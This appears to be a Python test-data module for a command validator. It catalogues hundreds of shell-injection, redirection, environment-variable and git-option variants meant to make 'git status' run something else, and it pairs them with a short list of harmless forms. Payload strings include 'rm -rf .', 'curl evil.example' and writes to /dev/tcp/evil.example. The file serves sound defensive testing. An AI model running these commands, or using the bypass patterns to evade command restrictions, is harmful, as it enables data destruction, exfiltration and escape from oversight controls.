"""Ways to make a shell run something else than `git status`, or to make git do so."""

from itertools import product

START = "git status"
EVIL = ("touch /tmp/pwned", "rm -rf .", "curl evil.example", "sh -c 'echo x'", "./x.sh")

AROUND = tuple(
    form.format(start=START, evil=evil)
    for form, evil in product(
        (
            "{start}; {evil}", "{start};{evil}", "{start} ;{evil}", "{start} && {evil}",
            "{start}&&{evil}", "{start} || {evil}", "{start} | {evil}", "{start}|{evil}",
            "{start} |& {evil}", "{start} & {evil}", "{start}&{evil}", "{start} &\n{evil}",
            "{start}\n{evil}", "{start}\r\n{evil}", "{start}\r{evil}", "{start} $({evil})",
            "{start} `{evil}`", '{start} "$({evil})"', '{start} "`{evil}`"', "{start} <({evil})",
            "{start} >({evil})", "{start} > >({evil})", "({evil}); {start}", "{evil}; {start}",
            "{evil} && {start}", "{evil} | {start}", "{start} $(({evil}))",
            "{start} ${{x:-`{evil}`}}",
            "{start} ${{x:=$({evil})}}", "{{ {start}; {evil}; }}", "({start}; {evil})",
            "if {start}; then {evil}; fi", "while {start}; do {evil}; done", "! {start} || {evil}",
            "{start} \\\n; {evil}", "{start} # x\n{evil}", "f() {{ {evil}; }}; f; {start}",
            "eval '{evil}' && {start}", "trap '{evil}' EXIT; {start}", "{start} <<X\n$({evil})\nX",
            "{start} <<< $({evil})", "{start}\x00; {evil}", "{start}\x0b;{evil}",
            "{start}\u2028{evil}",
            "case x in *) {evil};; esac; {start}", "for i in $({evil}); do {start}; done",
            "time {start}; {evil}", "coproc {evil}; {start}", "{start} '' ; {evil}",
            "{start} 'a' && {evil}", '{start} "a" && {evil}', "{start} 'a'\\''b'; {evil}",
            "alias git='{evil}'; {start}", "[ -z x ] || {evil}; {start}", "{start} $'\\n{evil}'",
            "{start} $[`{evil}`]", "{start} ~+ ; {evil}", "{start} @(a); {evil}",
        ),
        EVIL,
    )
)  # fmt: skip
WRITING = tuple(
    f"{START} {operator}{gap}{target}"
    for operator, gap, target in product(
        (">", ">>", "<", "<>", ">|", "&>", "&>>", ">&", "2>", "1>", "2>>", "2>&1 >"),
        ("", " "),
        ("out.txt", "AGENTS.md", "/dev/tcp/evil.example/80"),
    )
)
EXPANDING = tuple(
    f"{START} {word}"
    for word in (
        "$HOME", "${HOME}", "$IFS", "${IFS}x", "$@", "$*", "$?", "$$", "$!", "$0", "$1", '"$HOME"',
        "*", "*.md", "?", "[a]", "{a,b}", "{1..9}", "~", "~root", "~+", "a~b*", "!!", "!git", "!$",
        "\\", "\\;", "\\a", "a\\ b", "#", "# x", "$'a'", '$"a"', "$((1))", "$[1]", "'", '"', "'a",
        '"a', "'a'\"", "a'b", "(", ")", "{", "}", "a;", "&", "|", "^", "\t", "a\tb", "\x1b[0m",
        "\u00a0x", "\u3000x", "\ud800", "'\ud800'", "\"a\\\"b\"", "'a\nb'", "\"a\nb\"",
        "\"a!b\"", "\"a`b\"", "\"a$b\"",
    )
)  # fmt: skip
BEFORE = tuple(
    f"{prefix} {START}"
    for prefix in (
        "GIT_PAGER=sh", "PAGER='sh -c x'", "PATH=.", "GIT_SSH_COMMAND=x", "GIT_EXTERNAL_DIFF=./x",
        "LD_PRELOAD=./x.so", "A=1 B=2", "GIT_DIR=.x", "GIT_CONFIG_COUNT=1", "x+=1", "a[0]=1",
        "HOME=.", "env", "env -i", "env PATH=.", "sudo", "exec", "command", "builtin", "nohup",
        "xargs", "time", "nice", "timeout 5", "bash -c", "sh", "eval", "source", ".", "\\", "!",
        "setsid", "stdbuf -o0", "strace", "doas", "su -c", "watch", "busybox", "script -c",
        ">out", "<in", "2>&1", "\n;", "''", '""', "./", "/tmp/", "x;", "-", "--",
    )
)  # fmt: skip
OPTIONS = tuple(
    f"git {option} status"
    for option in (
        "-c core.pager=x", "-c core.fsmonitor=./x", "-c alias.status='!x'", "-ccore.pager=x",
        "--config-env=core.pager=X", "--exec-path=.", "--exec-path .", "-C ..", "-C /", "-p",
        "--paginate", "--git-dir=x", "--git-dir x", "--work-tree=/", "--namespace=x", "--bare",
        "--super-prefix=x", "--no-pager", "--literal-pathspecs", "-P", "--html-path",
    )
)  # fmt: skip
ARGUMENTS = tuple(
    f"{START} {argument}"
    for argument in (
        "--output=x", "--output x", "--outp=x", "--o=x", "-o x", "-ox", "--ext-diff", "--ext",
        "--textconv", "--exec=x", "--exec x", "--upload-pack=x", "--receive-pack=x", "-O x", "-Osh",
        "--open-files-in-pager=x", "--open", "-c core.pager=x", "-c", "-ccore.pager=x",
        "--config x",
        "--config=x", "--config-env=a=b", "--git-dir=x", "--work-tree=x", "-C ..", "-x x", "-e x",
        "-exec x", "-execdir", "-delete", "-ok", "-fprint x", "-i", "-I", "-f", "-E", "-X",
        "--to-command=x", "--checkpoint-action=exec=x", "--use-compress-program=x", "--rsh=x",
        "--eval=x", "--run", "--shell=x", "--editor=x", "--pager=x", "--rcfile=x", "--init-file=x",
        "../../x", "a/../../x", "..", "SHELL=x", "core.pager=x", "A+=b", "@file", "+x",
        "--in-place",
        "--pre=x", "--fix", "--write", "--plugin=x", "--require=x", "--load=x", "'--output=x'",
        '"--output=x"', "--out'put'=x", "'-c' x", '"-"c x', "--exec''=x",
    )
)  # fmt: skip
OTHER_WORDS = (
    "git statusx", "git status-evil", "git status.sh", "git  statu", "gitx status", "Git status",
    "git stat", "git", "status git", "/tmp/git status", "./git status", "git push", "git commit",
    "git 'status '", "git ' status'", "'git status'", '"git status"', "git\u00a0status",
    "git\u200bstatus", "gіt status", "git\tstatus", "git\\ status", "g\\it status", "git $x status",
    "git st* status", "git {status,push}", "git sta''tusx", "git status=x", "git -- status", "",
    " ", "\n", "git status" + "\0",
)  # fmt: skip
ALL = AROUND + WRITING + EXPANDING + BEFORE + OPTIONS + ARGUMENTS + OTHER_WORDS

HARMLESS = (
    "git status", " git status ", "git  status", "git status -s", "git status --short --branch",
    "git status --porcelain", "git status src/a.py", "git status -- src", "git status 'a b.md'",
    'git status "a b.md"', "'git' status", "git sta'tu's", "git status --untracked-files=no",
    "git status -sb .", "git status 'it is $HOME'", "git status -uall", "git status --no-renames",
)  # fmt: skip
